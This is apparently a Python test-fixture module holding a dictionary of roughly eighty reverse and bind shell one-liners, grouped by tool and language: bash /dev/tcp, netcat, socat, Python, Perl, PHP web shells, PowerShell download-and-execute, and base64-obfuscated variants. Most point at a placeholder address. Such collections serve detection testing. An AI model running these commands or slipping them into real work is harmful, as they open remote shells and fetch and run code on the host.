"""Shells handed to somebody far away, by how they are: several of each family, all written for these tests."""

# ruff: noqa: E501 (a case is one line, however long)

from __future__ import annotations


FAMILIES: dict[str, tuple[str, ...]] = {
    "descriptors of bash": (
        "bash -i >& /dev/tcp/198.51.100.4/9001 0>&1",
        "sh -i 5<> /dev/tcp/198.51.100.4/9001 0<&5 1>&5 2>&5",
        "0<&77-;exec 77<>/dev/tcp/198.51.100.4/9001; sh <&77 >&77 2>&77",
        'exec 9<>/dev/tcp/198.51.100.4/53; while read -r cmd <&9; do eval "$cmd" >&9 2>&9; done',
        "exec 5<>/dev/tcp/10.9.8.7/80;cat <&5 | while read line; do $line 2>&5 >&5; done",
        "bash -c 'exec bash -i &>/dev/tcp/198.51.100.4/4242 <&1'",
        "/bin/bash -l > /dev/tcp/198.51.100.4/4242 0<&1 2>&1",
        "setsid sh -i >& /dev/udp/198.51.100.4/53 0>&1 &",
        "nohup bash -c 'bash -i >& /dev/tcp/198.51.100.4/1 0>&1' &",
        "ksh -c 'ksh >/dev/tcp/198.51.100.4/443 <&1'",
        "(sh)0>/dev/tcp/198.51.100.4/9001",
        "echo 'bash -i >& /dev/tcp/198.51.100.4/443 0>&1' > /dev/shm/r.sh; bash /dev/shm/r.sh",
    ),
    "netcat": (
        "nc -e /bin/sh 198.51.100.4 9001",
        "nc.exe 198.51.100.4 9001 -e cmd.exe",
        "busybox nc 198.51.100.4 9001 -e sh",
        "nc -c bash 198.51.100.4 9001",
        "ncat --ssl 198.51.100.4 443 -e /bin/bash",
        "ncat -lvnp 4444 --exec '/bin/bash -i' --keep-open",
        "ncat --udp 198.51.100.4 53 -e /bin/sh",
        "nc -lvp 4444 -e /bin/sh",
        "nc -klp 4444 -c /bin/zsh",
        "rm -f /tmp/p; mkfifo /tmp/p; nc 198.51.100.4 9001 0</tmp/p | /bin/sh >/tmp/p 2>&1",
        "mknod /tmp/backpipe p; sh 0</tmp/backpipe | nc 198.51.100.4 9001 1>/tmp/backpipe",
        "mkfifo q && cat q | bash -i 2>&1 | nc -u 198.51.100.4 53 > q",
        "f=$(mktemp -u); mkfifo $f; nc -l 4444 < $f | sh > $f 2>&1",
        "nc 198.51.100.4 4444 | sh | nc 198.51.100.4 4445",
        "while :; do nc -lp 31337 -e /bin/sh; sleep 5; done",
        "rcat connect -s bash 198.51.100.4 9001",
        "gs-netcat -s s3cr3t -l -i",
    ),
    "socat": (
        "socat TCP:198.51.100.4:9001 EXEC:sh",
        "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:198.51.100.4:9001",
        "socat OPENSSL:198.51.100.4:443,verify=0 EXEC:/bin/bash,pty,stderr",
        "socat TCP-LISTEN:4444,reuseaddr,fork SYSTEM:/bin/sh",
        "socat UDP4:198.51.100.4:53 EXEC:'/bin/bash -i'",
    ),
    "other clients": (
        "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 198.51.100.4:443 > /tmp/s; rm /tmp/s",
        "openssl s_client -quiet -connect h.example:81 | /bin/bash | openssl s_client -quiet -connect h.example:82",
        "telnet 198.51.100.4 8080 | /bin/bash | telnet 198.51.100.4 8443",
        "mkfifo a && telnet 198.51.100.4 9001 0<a | sh 1>a",
        "while true; do curl -s http://198.51.100.4/next | sh; sleep 10; done",
        'while :; do c=$(curl -s http://198.51.100.4/c); r=$($c 2>&1); curl -s -d "$r" http://198.51.100.4/r; sleep 3; done',
        'until false; do eval "$(wget -qO- http://198.51.100.4/t)"; sleep 60; done',
        "xterm -display 198.51.100.4:1",
        "DISPLAY=198.51.100.4:0 xterm -e /bin/bash",
        "zsh -c 'zmodload zsh/net/tcp && ztcp 198.51.100.4 9001 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
        "finger p@198.51.100.4 | sh",
        "curl -Ns telnet://198.51.100.4:9001 < /tmp/p | sh > /tmp/p 2>&1",
        "ssh -o ProxyCommand='bash -c \"bash -i >& /dev/tcp/198.51.100.4/9 0>&1\"' x",
    ),
    "Python": (
        'python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("198.51.100.4",9001));'
        '[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])\'',
        "export H=198.51.100.4 P=9001; python -c 'import sys,socket,os,pty;s=socket.socket();"
        's.connect((os.getenv("H"),int(os.getenv("P"))));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")\'',
        'python -c \'import os,pty,socket as k;s=k.create_connection(("h.example",1));'
        '[os.dup2(s.fileno(),n) for n in range(3)];pty.spawn("/bin/bash")\'',
        'python3 -c \'import socket as s,subprocess as p;k=s.socket();k.bind(("",4444));k.listen(1);c,a=k.accept()\n'
        "while 1: c.send(p.getoutput(c.recv(1024).decode()).encode())'",
        "python3 <<'E'\nimport socket,os\ns=socket.create_connection(('198.51.100.4',4))\n"
        "while True:\n    s.send(os.popen(s.recv(999).decode()).read().encode())\nE",
    ),
    "Perl": (
        'perl -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
        'connect(S,sockaddr_in(9001,inet_aton("198.51.100.4")));open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");\'',
        "perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"198.51.100.4:9001\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
        "perl -MIO::Socket -e '$s=IO::Socket::INET->new(LocalPort=>4444,Listen=>1);$c=$s->accept;while(<$c>){print $c `$_`}'",
    ),
    "Ruby": (
        'ruby -rsocket -e \'c=TCPSocket.new("198.51.100.4",9001);while(l=c.gets);IO.popen(l,"r"){|io|c.print io.read}end\'',
        'ruby -rsocket -e\'spawn("sh",[:in,:out,:err]=>TCPSocket.new("198.51.100.4",9001))\'',
        'ruby -rsocket -e \'f=TCPSocket.open("198.51.100.4",9001).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',
    ),
    "PHP": (
        'php -r \'$s=fsockopen("198.51.100.4",9001);exec("sh <&3 >&3 2>&3");\'',
        'php -r \'$k=fsockopen("h.example",9);$p=proc_open("bash",[$k,$k,$k],$x);\'',
        "php -r '$s=stream_socket_client(\"tcp://198.51.100.4:9\");while($c=fgets($s)){fwrite($s,shell_exec($c));}'",
        "echo '<?php system($_REQUEST[0]); ?>' > /var/www/html/i.php",
        "echo '<?php @eval($_POST[\"k\"]);' > up.php",
    ),
    "Lua, Node, AWK, Tcl": (
        "lua -e \"require('socket');require('os');t=socket.tcp();t:connect('198.51.100.4','9001');os.execute('sh -i <&3 >&3 2>&3');\"",
        'lua5.1 -e \'local s=require("socket");local t=s.tcp();t:connect("198.51.100.4",9);'
        'while true do local r=t:receive();local f=io.popen(r,"r");t:send(f:read("*a")) end\'',
        'node -e \'sh=require("child_process").spawn("sh");require("net").connect(9001,"198.51.100.4",function(){'
        "this.pipe(sh.stdin);sh.stdout.pipe(this)})'",
        "node -e \"require('child_process').exec('nc -e sh 198.51.100.4 9001')\"",
        "deno eval \"const c=await Deno.connect({hostname:'198.51.100.4',port:9});"
        "new Deno.Command('sh',{stdin:'piped'}).spawn()\"",
        "gawk 'BEGIN{s=\"/inet/tcp/0/198.51.100.4/9001\";while(1){s|&getline c;while((c|&getline)>0)print|&s;close(c)}}'",
        "awk 'BEGIN {s = \"/inet/tcp/0/198.51.100.4/9001\"; for (;;) { s |& getline c; while ((c |& getline) > 0) print $0 |& s } }' /dev/null",
        'echo \'set s [socket 198.51.100.4 9001];while 42 {puts -nonewline $s "> ";flush $s;gets $s c;'
        "set r [exec sh -c $c];puts $s $r}' | tclsh",
    ),
    "compiled": (
        'echo \'package main;import"os/exec";import"net";func main(){c,_:=net.Dial("tcp","198.51.100.4:9001");'
        'd:=exec.Command("sh");d.Stdin=c;d.Stdout=c;d.Run()}\' > /tmp/t.go && go run /tmp/t.go',
        "cat > R.java <<'E'\npublic class R{public static void main(String[] a)throws Exception{"
        'Process p=new ProcessBuilder("sh").redirectErrorStream(true).start();'
        'java.net.Socket s=new java.net.Socket("198.51.100.4",9);}}\nE\njava R.java',
        'groovy -e \'String h="198.51.100.4";int p=9;Process q=new ProcessBuilder("sh").start();Socket s=new Socket(h,p);\'',
        "cat > m.rs <<'E'\nuse std::net::TcpStream;use std::os::unix::io::*;use std::process::*;\n"
        'fn main(){let s=TcpStream::connect("198.51.100.4:9").unwrap();let f=s.as_raw_fd();'
        'Command::new("/bin/sh").stdin(unsafe{Stdio::from_raw_fd(f)}).spawn().unwrap();}\nE\nrustc m.rs && ./m',
        'echo \'import "dart:io";main(){Socket.connect("198.51.100.4",9).then((s){Process.start("sh",[]).then((p){'
        "s.listen(p.stdin.add);p.stdout.listen(s.add);});});}' > a.dart && dart run a.dart",
        'crystal eval \'require "process";require "socket";c=Socket.tcp(Socket::Family::INET);c.connect("198.51.100.4",9);'
        "while l=c.gets;Process.run(l,shell:true);end'",
        "cat > s.c <<'E'\n#include <sys/socket.h>\nint main(){int s=socket(2,1,0);connect(s,0,0);dup2(s,0);dup2(s,1);"
        'execve("/bin/sh",0,0);}\nE\ngcc s.c -o s && ./s',
        'echo \'using System.Net.Sockets;class A{static void Main(){var c=new TcpClient("198.51.100.4",9);'
        'var p=new System.Diagnostics.Process();p.StartInfo.FileName="cmd.exe";p.Start();}}\' > a.cs && csc a.cs',
    ),
    "PowerShell": (
        "powershell -nop -c \"$c=New-Object System.Net.Sockets.TCPClient('198.51.100.4',9001);$s=$c.GetStream();"
        "[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=[Text.Encoding]::ASCII.GetString($b,0,$i);"
        '$r=(iex $d 2>&1|Out-String);$s.Write([Text.Encoding]::ASCII.GetBytes($r),0,$r.Length)}"',
        "$l=[System.Net.Sockets.TcpListener]4444;$l.start();$c=$l.AcceptTcpClient();$s=$c.GetStream();iex $x",
        "powershell -c \"IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.4/p.ps1')\"",
        "powershell IEX (iwr -useb http://198.51.100.4/powercat.ps1); powercat -c 198.51.100.4 -p 9001 -e cmd",
    ),
    "wrapped": (
        "echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjQvOSAwPiYx | base64 -d | bash",
        "bash -c '{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xLjIuMy40LzkgMD4mMQ==}|{base64,-d}|{bash,-i}'",
        "bash <<< \"$(printf '\\x62\\x61\\x73\\x68 -i >& /dev/tcp/1.2.3.4/9 0>&1')\"",
        "eval $(echo 'c2ggLWkgPiYgL2Rldi90Y3AvMS4yLjMuNC85IDA+JjE=' | openssl base64 -d)",
        "msfvenom -p cmd/unix/reverse_bash LHOST=198.51.100.4 LPORT=9 -f raw | sh",
        "python3 -c \"exec(__import__('base64').b64decode('aW1wb3J0IG9z'))\"",
        "wget -q http://198.51.100.4/reverse_shell.elf -O /tmp/r && chmod +x /tmp/r && /tmp/r",
    ),
}
